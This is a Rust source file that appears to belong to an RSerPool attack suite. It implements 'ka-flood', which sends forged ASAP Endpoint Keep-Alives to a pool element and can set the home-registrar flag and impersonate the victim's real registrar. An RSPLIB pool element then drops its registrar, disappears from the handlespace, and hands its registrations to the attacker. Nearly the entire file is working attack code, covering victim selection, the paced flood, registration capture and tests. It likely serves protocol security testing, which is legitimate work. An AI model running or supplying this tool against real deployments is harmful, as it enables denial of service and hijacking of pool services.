//! `ka-flood` (RFC 5355 §2.14): Endpoint Keep-Alives at a pool element's
//! ASAP endpoint, the one it accepts its registrar's keep-alives on, at a
//! rate. Without the home-registrar (H) flag RSPLIB's PE ignores a
//! keep-alive from a registrar that is not its own (and acknowledges it
//! to its real registrar); with `--home-flag` it takes the sender for its
//! new home registrar: it aborts its association with the real one, which
//! then deletes the PE from the handlespace, and acknowledges every
//! further keep-alive to the attacker (see `actors/README.md`).

use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use anyhow::{bail, Context, Result};
use client_core::policy::Rng;
use client_core::wire::{consts, AsapMessage, PoolElement, PoolElementId, PoolHandle};
use rserpool_sctp::SctpAssociation;

use super::{choose, delta, spawn_sampler, Act, Attack, Common, Ctx};
use crate::fields;
use crate::messages::{self, parse_pe_id};
use crate::net;
use crate::output::Output;
use crate::stop::Stop;

#[derive(Clone, Debug, clap::Args)]
pub struct Args {
    /// A registrar's ENRP endpoint (the victim's ASAP endpoint is looked
    /// up in its handle table), or the victim PE's ASAP endpoint itself
    /// (then --pe-id is needed).
    #[command(flatten)]
    pub common: Common,
    /// The victim PE (hex 0x… or decimal). Default: one of the pool's
    /// PEs the registrar lists, chosen by the seed.
    #[arg(long = "pe-id", value_name = "ID", value_parser = parse_pe_id)]
    pub pe_id: Option<u32>,
    /// Set the home-registrar (H) flag: "I am your home registrar now".
    /// `--home-flag`, `--home-flag 1` or `--home-flag 0`.
    #[arg(long = "home-flag", value_name = "0|1", num_args = 0..=1,
          default_missing_value = "1", default_value = "0", value_parser = parse_flag)]
    pub home_flag: bool,
    /// Server identifier the keep-alives carry. Default: the victim's own
    /// home registrar's (an impersonation), else 0x10000001.
    #[arg(long = "server-id", value_name = "ID", value_parser = parse_pe_id)]
    pub server_id: Option<u32>,
    /// Do not answer the Registrations a PE that took the attacker for its
    /// registrar sends (it then times out and hunts for another).
    #[arg(long = "no-accept")]
    pub no_accept: bool,
    /// Interval of the attacker's sample lines (`ka_answered`).
    #[arg(long = "sample-ms", value_name = "MS", default_value_t = 250)]
    pub sample_ms: u64,
}

/// `0`/`1`/`true`/`false`/`on`/`off` (catalogue parameters are numbers).
pub fn parse_flag(text: &str) -> Result<bool, String> {
    match text {
        "1" | "true" | "on" => Ok(true),
        "0" | "false" | "off" => Ok(false),
        _ => Err(format!("{text}: want 0 or 1")),
    }
}

/// The victim among the PEs a registrar lists: `want`, else one chosen by
/// the seed among those whose ASAP endpoint is known. Returns the PE and
/// its ASAP endpoint.
pub fn pick_victim(
    table: &[PoolElement],
    want: Option<u32>,
    rng: &mut Rng,
) -> Result<(PoolElement, SocketAddr), String> {
    let reachable: Vec<&PoolElement> = table
        .iter()
        .filter(|e| asap_endpoint(e).is_some())
        .collect();
    let pe = match want {
        Some(id) => reachable.iter().find(|e| e.id.0 == id).ok_or_else(|| {
            format!(
                "PE {} is not listed with an ASAP endpoint",
                PoolElementId(id)
            )
        })?,
        None => {
            let ids: Vec<u32> = reachable.iter().map(|e| e.id.0).collect();
            let id = *choose(&ids, 1, rng)
                .first()
                .ok_or("the registrar lists no PE with an ASAP endpoint")?;
            reachable.iter().find(|e| e.id.0 == id).expect("chosen")
        }
    };
    let ep = asap_endpoint(pe).expect("filtered");
    Ok(((*pe).clone(), ep))
}

/// A PE's ASAP endpoint: the first IPv4 address (else the first) of its
/// registrator transport, with its port.
pub fn asap_endpoint(pe: &PoolElement) -> Option<SocketAddr> {
    let t = pe.registrator_transport.as_ref()?;
    let ip = t
        .addresses
        .iter()
        .find(|a| a.is_ipv4())
        .or(t.addresses.first())?;
    (t.port != 0).then(|| SocketAddr::new(*ip, t.port))
}

#[derive(Default)]
struct Tally {
    answered: AtomicU64,
    registrations: AtomicU64,
}

struct KaFlood {
    assoc: Arc<SctpAssociation>,
    pool: PoolHandle,
    home: bool,
    server: u32,
    victim: u32,
}

impl Attack for KaFlood {
    async fn act(&mut self, _seq: u64, _rng: &mut Rng, _out: &Output) -> Result<Act> {
        net::send_asap(
            &self.assoc,
            &messages::keep_alive(self.home, self.server, &self.pool, self.victim),
        )
        .await?;
        Ok((
            "endpoint-keep-alive",
            fields! {
                "pe_id" => PoolElementId(self.victim).to_string(),
                "home" => self.home,
            },
        ))
    }
}

/// Counts the acknowledgements and plays registrar to a PE that took the
/// attacker for its home registrar.
fn spawn_reader(
    assoc: Arc<SctpAssociation>,
    accept: bool,
    tally: Arc<Tally>,
    out: Output,
) -> tokio::task::JoinHandle<()> {
    tokio::spawn(async move {
        while let Ok(m) = net::recv_asap(&assoc).await {
            match m {
                AsapMessage::EndpointKeepAliveAck(_) => {
                    tally.answered.fetch_add(1, Ordering::Relaxed);
                }
                AsapMessage::Registration(r) => {
                    tally.registrations.fetch_add(1, Ordering::Relaxed);
                    out.event(
                        "registration-captured",
                        serde_json::json!({
                            "pe_id": r.pool_element.id.to_string(),
                            "port": r.pool_element.user_transport.port,
                        }),
                    );
                    if accept {
                        let _ = net::send_asap(
                            &assoc,
                            &messages::registration_response(&r.pool_handle, r.pool_element.id),
                        )
                        .await;
                    }
                }
                AsapMessage::Deregistration(d) if accept => {
                    let _ = net::send_asap(
                        &assoc,
                        &messages::deregistration_response(&d.pool_handle, d.pe_id),
                    )
                    .await;
                }
                _ => {}
            }
        }
        out.event("association-closed", "the victim closed the association");
    })
}

pub async fn run(a: Args, stop: Stop) -> Result<()> {
    let mut ctx = Ctx::new(&a.common, stop);
    let target = ctx.targets[0];
    let pool = ctx.pool.clone();
    let want = a.pe_id;
    let mut rng = Rng::new(ctx.rng.next_u64());
    let asker = 0x7f00_0000 | (ctx.rng.next_u64() as u32 & 0x00ff_ffff);
    let Some((assoc, victim, home_registrar)) = ctx
        .setup(async {
            if target.port() == consts::ENRP_PORT {
                let table = net::handle_table(target, &pool, asker).await?;
                let (pe, ep) = pick_victim(&table, want, &mut rng).map_err(anyhow::Error::msg)?;
                let assoc = net::connect(None, ep)
                    .await
                    .with_context(|| format!("the ASAP endpoint of PE {}", pe.id))?;
                Ok((assoc, pe.id.0, Some(pe.home_registrar.0)))
            } else {
                let Some(id) = want else {
                    bail!("--pe-id is needed when --target is a PE's endpoint");
                };
                Ok((net::connect(None, target).await?, id, None))
            }
        })
        .await
    else {
        return Ok(());
    };
    let server = a
        .server_id
        .or(home_registrar.filter(|h| *h != 0))
        .unwrap_or(0x1000_0001);
    let assoc = Arc::new(assoc);
    ctx.out.event(
        "victims",
        serde_json::json!([PoolElementId(victim).to_string()]),
    );
    let tally = Arc::new(Tally::default());
    let reader = spawn_reader(assoc.clone(), !a.no_accept, tally.clone(), ctx.out.clone());
    let sampler = {
        let tally = tally.clone();
        let (mut answered, mut registered) = (0, 0);
        spawn_sampler(ctx.out.clone(), a.sample_ms, move || {
            fields! {
                "ka_answered" => delta(&tally.answered, &mut answered),
                "registrations_captured" => delta(&tally.registrations, &mut registered),
            }
        })
    };
    let mut attack = KaFlood {
        assoc,
        pool,
        home: a.home_flag,
        server,
        victim,
    };
    // Held: a PE that took the attacker for its registrar stays away from
    // the real one until the attack ends.
    let f = super::run_paced(&mut attack, &mut ctx, true).await;
    sampler.abort();
    reader.abort();
    super::done(
        &ctx,
        f,
        fields! {
            "answered" => tally.answered.load(Ordering::Relaxed),
            "registrations_captured" => tally.registrations.load(Ordering::Relaxed),
            "server_id" => format!("0x{server:08x}"),
        },
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use client_core::wire::{SelectionPolicy, ServerId, TransportAddress};

    fn pe(id: u32, reg: Option<(&str, u16)>) -> PoolElement {
        let mut p = messages::pool_element(
            id,
            vec!["10.1.0.1".parse().unwrap()],
            5000,
            SelectionPolicy::RoundRobin,
            90_000,
        );
        p.home_registrar = ServerId(0x1000_0002);
        p.registrator_transport = reg.map(|(a, port)| {
            TransportAddress::sctp(
                port,
                0,
                vec!["fec0::1".parse().unwrap(), a.parse().unwrap()],
            )
        });
        p
    }

    #[test]
    fn the_victims_asap_endpoint_is_its_registrator_transport_ipv4_first() {
        let table = [pe(1, Some(("10.1.0.1", 37056))), pe(2, None)];
        let (v, ep) = pick_victim(&table, Some(1), &mut Rng::new(1)).unwrap();
        assert_eq!(v.id.0, 1);
        assert_eq!(ep, "10.1.0.1:37056".parse().unwrap());
        // A PE without a known ASAP endpoint cannot be the victim.
        assert!(pick_victim(&table, Some(2), &mut Rng::new(1))
            .unwrap_err()
            .contains("ASAP endpoint"));
        assert!(pick_victim(&[pe(3, None)], None, &mut Rng::new(1)).is_err());
    }

    #[test]
    fn without_a_pe_id_the_seed_chooses_the_victim() {
        let table: Vec<_> = (1..=8).map(|i| pe(i, Some(("10.1.0.2", 4000)))).collect();
        let a = pick_victim(&table, None, &mut Rng::new(5)).unwrap().0.id;
        let again = pick_victim(&table, None, &mut Rng::new(5)).unwrap().0.id;
        assert_eq!(a, again);
        let others: std::collections::BTreeSet<_> = (0..20)
            .map(|s| pick_victim(&table, None, &mut Rng::new(s)).unwrap().0.id)
            .collect();
        assert!(others.len() > 1, "the seed must matter");
    }

    #[test]
    fn the_home_flag_takes_a_number_or_a_word() {
        for (t, v) in [("1", true), ("0", false), ("true", true), ("off", false)] {
            assert_eq!(parse_flag(t), Ok(v));
        }
        assert!(parse_flag("2").is_err());
    }
}
